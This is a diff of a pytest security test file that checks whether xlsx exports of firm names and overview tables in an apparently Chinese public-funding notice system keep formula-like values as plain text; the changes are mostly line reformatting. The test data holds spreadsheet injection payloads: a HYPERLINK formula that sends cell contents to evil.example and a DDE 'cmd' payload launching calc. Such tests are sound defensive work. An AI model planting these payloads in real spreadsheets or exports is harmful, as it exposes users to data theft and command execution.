@@ -17,6 +17,7 @@ from tests.security.conftest import API
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'
 
+
 @pytest.mark.usefixtures("next_year_recorded")  # the batch starts today
 def test_notice_export_keeps_a_formula_like_firm_name_as_text(client: TestClient, as_user) -> None:  # type: ignore[no-untyped-def]
     admin = as_user("admin")
@@ -24,7 +25,9 @@ def test_notice_export_keeps_a_formula_like_firm_name_as_text(client: TestClient
     assert r.status_code == 200, r.text
     app_id = approved_application(client, as_user, key="formula")
     city = as_user("city_kj")
-    r = client.post(f"{API}/notices", json={"title": "拟支持名单", "application_ids": [app_id]}, headers=city)
+    r = client.post(
+        f"{API}/notices", json={"title": "拟支持名单", "application_ids": [app_id]}, headers=city
+    )
     assert r.status_code == 201, r.text
     xlsx = client.get(f"{API}/notices/{r.json()['id']}/export.xlsx", headers=city)
     assert xlsx.status_code == 200
@@ -59,7 +62,9 @@ def test_sandbox_workbook_keeps_text(tmp_path: Path) -> None:
 
     fields = Tables.__dataclass_fields__
     empty = {name: [] for name in fields}
-    tables = Tables(**{**empty, "overview": [("改革名称", "=cmd|' /C calc'!A0"), ("说明", "@SUM(1)")]})
+    tables = Tables(
+        **{**empty, "overview": [("改革名称", "=cmd|' /C calc'!A0"), ("说明", "@SUM(1)")]}
+    )
     out = tmp_path / "s.xlsx"
     write_excel(tables, out)
     ws = load_workbook(out)["概要"]
